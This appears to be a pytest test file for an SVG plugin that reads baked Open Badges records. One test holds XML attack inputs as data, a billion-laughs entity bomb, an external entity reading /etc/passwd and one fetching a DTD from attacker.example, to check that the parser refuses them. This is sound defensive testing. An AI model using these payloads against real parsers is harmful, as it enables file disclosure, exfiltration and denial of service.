"""A badge that is baked into an SVG."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.containers.svg import PLUGIN
from resolvers.problems import Invalid
from tests.baked import baked_json, baked_token, svg
from tests.gateway.containers.opening import fate, opened

OPEN_BADGES_2 = '<b:assertion xmlns:b="http://openbadges.org" verify="{}">{}</b:assertion>'


@pytest.mark.parametrize(
    ("element", "record"),
    [
        (baked_json({"a": "<&>"}), b'{"a": "<&>"}'),
        (baked_token("eyJh.e30.c2ln"), b"eyJh.e30.c2ln"),
        (OPEN_BADGES_2.format("https://issuer.example/1", '{"uid":1}'), b'{"uid":1}'),
        (OPEN_BADGES_2.format("https://issuer.example/1", ""), b"https://issuer.example/1"),
        (OPEN_BADGES_2.format("eyJh.e30.c2ln", ""), b"eyJh.e30.c2ln"),
    ],
)
async def test_the_record_is_in_its_element(element: str, record: bytes) -> None:
    """JSON stands in the element, a token in its `verify` attribute; 2.0 may have an address there."""
    (inside,) = await opened(PLUGIN, svg(element))
    assert inside.content == record


async def test_the_declaration_of_a_drawing_program_does_no_harm() -> None:
    """XML declaration, comment and the document type of SVG 1.1 may stand before the drawing."""
    head = (
        '<?xml version="1.0" encoding="UTF-8"?><!-- drawn --><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    )
    (inside,) = await opened(PLUGIN, svg(baked_json({"a": 1}), head=head))
    assert inside.content == b'{"a": 1}'


async def test_a_drawing_without_a_record_holds_nothing() -> None:
    """Elements of other namespaces are no records, whatever their names."""
    assert await opened(PLUGIN, svg('<credential xmlns="https://other.example/">{}</credential>')) == ()


@pytest.mark.parametrize(
    "elements",
    [
        [baked_json({"a": 1}), baked_json({"a": 1})],
        [baked_json({"a": 1}), OPEN_BADGES_2.format("https://issuer.example/1", "")],
        ['<o:credential xmlns:o="https://purl.imsglobal.org/ob/v3p0" verify="a.b.c">{}</o:credential>'],
        [f'<o:credential xmlns:o="https://purl.imsglobal.org/ob/v3p0">{baked_json({})}</o:credential>'],
    ],
)
async def test_T54_several_records_are_refused(elements: list[str]) -> None:
    """Two records, one in the other, or a record beside a token: nothing says which one counts."""
    with pytest.raises(Invalid) as refused:
        await opened(PLUGIN, svg(*elements))
    assert refused.value.problem.code == "container-malformed"


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://attacker.example/x.dtd"> %x;]>',
    ],
)
async def test_T54_entities_are_never_read(head: str) -> None:
    """Neither a billion laughs nor a file or an address: a drawing that declares an entity is refused."""
    with pytest.raises(Invalid) as refused:
        await opened(PLUGIN, svg(baked_json({"a": 1}), head=head))
    assert refused.value.problem.code == "container-malformed"


async def test_T54_a_script_is_only_text() -> None:
    """Nothing in a drawing is run; a script does not keep the record from being read."""
    (inside,) = await opened(PLUGIN, svg("<script>alert(1)</script>", baked_json({"a": 1})))
    assert inside.content == b'{"a": 1}'


async def test_a_drawing_has_bounds() -> None:
    """Neither elements nor octets go on without end."""
    for drawing in (svg("<g/>" * 100_001), svg(" " * (8 * 1024 * 1024))):
        with pytest.raises(Invalid) as refused:
            await opened(PLUGIN, drawing)
        assert refused.value.problem.code == "too-large"


@given(garbage=st.binary(max_size=100))
async def test_random_octets_are_refused_or_read(garbage: bytes) -> None:
    """Whatever stands in the drawing, there is a record, none, or a refusal."""
    assert await fate(PLUGIN, b"<svg>" + garbage + b"</svg>") in {None, "container-malformed"}
